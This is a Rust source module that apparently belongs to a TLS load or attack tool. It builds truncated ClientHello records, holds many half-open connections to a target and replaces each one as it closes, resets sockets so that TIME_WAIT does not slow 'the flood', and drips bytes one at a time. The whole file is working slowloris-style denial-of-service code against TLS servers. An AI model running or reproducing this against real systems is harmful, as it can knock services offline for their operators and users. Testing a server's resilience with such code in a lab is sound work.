//! Connections that are held before the TLS handshake has named a peer.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::tls;

/// The first octets of a ClientHello in a record that announces `length` octets of it.
#[must_use]
pub fn hello_of(length: u16) -> Vec<u8> {
    let inner = u32::from(length.saturating_sub(4)).to_be_bytes();
    let mut hello = vec![22, 3, 1];
    hello.extend_from_slice(&length.to_be_bytes());
    hello.push(1);
    hello.extend_from_slice(inner.get(1..).unwrap_or_default());
    hello.extend_from_slice(&[3, 3]);
    hello
}

/// Unfinished handshakes, each begun again when it ends. All end when this is dropped.
#[derive(Debug)]
pub struct HalfOpen {
    begun: Arc<AtomicU64>,
    _tasks: JoinSet<()>,
}

impl HalfOpen {
    /// Keeps `count` connections open on which only `first` is ever sent. At most one is opened per `pace`, over all.
    #[must_use]
    pub fn keep(
        target: SocketAddr,
        from: Option<IpAddr>,
        count: usize,
        first: Vec<u8>,
        pace: Duration,
    ) -> Self {
        let begun = Arc::new(AtomicU64::new(0));
        let mut tasks = JoinSet::new();
        let first = Arc::new(first);
        let turn =
            Arc::new(tokio::sync::Mutex::new(tokio::time::interval(pace.max(Duration::from_micros(1)))));
        for _ in 0..count {
            let (begun, first, turn) = (Arc::clone(&begun), Arc::clone(&first), Arc::clone(&turn));
            tasks.spawn(async move {
                loop {
                    turn.lock().await.tick().await;
                    begun.fetch_add(1, Ordering::Relaxed);
                    let Ok(tcp) = tls::socket(target, from).await else { continue };
                    hold(tcp, &first).await;
                }
            });
        }
        Self { begun, _tasks: tasks }
    }

    /// How many were begun.
    #[must_use]
    pub fn begun(&self) -> u64 {
        self.begun.load(Ordering::Relaxed)
    }
}

/// Sends `first` and waits for the end of the connection. It is closed with RST, since TIME_WAIT would use up the local
/// ports and slow the flood down.
async fn hold(mut tcp: TcpStream, first: &[u8]) {
    let _ = tcp.set_zero_linger();
    if tcp.write_all(first).await.is_err() {
        return;
    }
    let mut scratch = [0; 64];
    while matches!(tcp.read(&mut scratch).await, Ok(1..)) {}
}

/// Sends one octet after the other with a pause between, until the server closes the connection; returns the number
/// sent.
pub async fn drip(mut tcp: TcpStream, octets: &[u8], pause: Duration) -> usize {
    let mut said = 0;
    for octet in octets {
        if tcp.write_all(std::slice::from_ref(octet)).await.is_err() {
            break;
        }
        said += 1;
        let mut scratch = [0; 64];
        if let Ok(Ok(0) | Err(_)) = tokio::time::timeout(pause, tcp.read(&mut scratch)).await {
            break;
        }
    }
    said
}
